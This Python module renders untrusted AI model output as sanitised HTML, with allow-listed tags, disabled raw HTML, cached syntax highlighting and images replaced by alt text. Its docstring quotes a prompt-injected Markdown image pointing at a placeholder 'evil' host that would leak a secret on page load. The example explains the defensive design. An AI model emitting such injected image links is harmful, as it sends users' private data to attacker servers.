"""Model output (untrusted Markdown) to safe HTML.

markdown-it's `js-default` preset does not pass raw HTML through (the
`commonmark` preset does); nh3 then removes anything outside an allow-list.
No <img> at all: a prompt-injected `![](https://evil/?q=secret)` would leak data
to a remote server the moment the page loads. Rendered once when a turn
finishes and stored, so showing a long conversation does no Markdown work.
"""

import re
from functools import lru_cache
from html import escape

import nh3
from markdown_it import MarkdownIt
from mdit_py_plugins.tasklists import tasklists_plugin
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

ALLOWED_TAGS = {
    "a", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "input", "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},
    "div": {"class"},
    "span": {"class"},
    "pre": {"class", "data-lang"},
    "input": {"type", "checked", "disabled", "class"},
    "li": {"class"},
    "ul": {"class"},
    "ol": {"start"},
}
ALLOWED_URL_SCHEMES = {"http", "https", "mailto"}


# A streamed answer is rendered again at every progress save (attempts.py): its code blocks
# that are already closed come from a cache, so only the growing one is highlighted again
# (Pygments is most of a render's time: benchmarks/render.py).
CACHED_CODE_CHARS = 16_000


def _highlight(code: str, lang: str, _attrs) -> str:
    """Pygments with CSS classes (no inline styles, so the CSP can forbid them)."""
    if len(code) > CACHED_CODE_CHARS:
        return _highlighted(code, lang)
    return _highlighted_cached(code, lang)


@lru_cache(maxsize=256)
def _lexer(name: str):
    """A lexer per language name, made once (lexers keep no state between uses)."""
    try:
        return get_lexer_by_name(name)
    except ClassNotFound:
        return None


# One formatter for every block: building one costs ~2 ms (its style tables), formatting keeps no state.
_FORMATTER = HtmlFormatter(nowrap=True)


def _highlighted(code: str, lang: str) -> str:
    lexer = _lexer(lang.strip().split()[0]) if lang.strip() else None
    if lexer is None:
        return f'<pre class="code"><code>{escape(code)}</code></pre>'
    formatter = _FORMATTER
    label = escape(lexer.name)
    return (
        f'<pre class="code highlight" data-lang="{label}"><code class="language-{escape(lang.split()[0])}">'
        f"{highlight(code, lexer, formatter)}</code></pre>"
    )


_highlighted_cached = lru_cache(maxsize=128)(_highlighted)


def _image_as_text(self, tokens, idx, options, env) -> str:
    """Images become their alt text: the reader sees something was there, nothing is fetched."""
    alt = self.renderInlineAsText(tokens[idx].children or [], options, env)
    return escape(f"[image: {alt}]" if alt else "[image]")


@lru_cache(maxsize=1)
def _markdown() -> MarkdownIt:
    md = MarkdownIt("js-default", {"html": False, "linkify": False, "typographer": False, "highlight": _highlight})
    md.enable(["table", "strikethrough"])
    md.use(tasklists_plugin)
    md.add_render_rule("image", _image_as_text)
    return md


def markdown_to_html(text: str) -> str:
    if not text:
        return ""
    html = _markdown().render(text)
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes=ALLOWED_URL_SCHEMES,
        link_rel="noopener noreferrer nofollow",
        strip_comments=True,
    )


# A reasoning summary's headings, as the models write them ("**Weighing the options**").
_BOLD = re.compile(r"\*\*(?=\S)(.+?)(?<=\S)\*\*")
_PARAGRAPHS = re.compile(r"\n\s*\n")


def thinking_to_html(text: str) -> str:
    """A reasoning summary (model output, untrusted) as HTML: escaped whole, then only its **bold** runs
    and its paragraphs and line breaks made into tags. No Markdown renderer: it is drawn again at every
    progress save while it streams, and nothing of it is ever passed through as markup."""
    paragraphs = (part.strip() for part in _PARAGRAPHS.split(text or ""))
    return "".join(
        "<p>" + _BOLD.sub(r"<strong>\1</strong>", escape(part)).replace("\n", "<br>") + "</p>"
        for part in paragraphs
        if part
    )
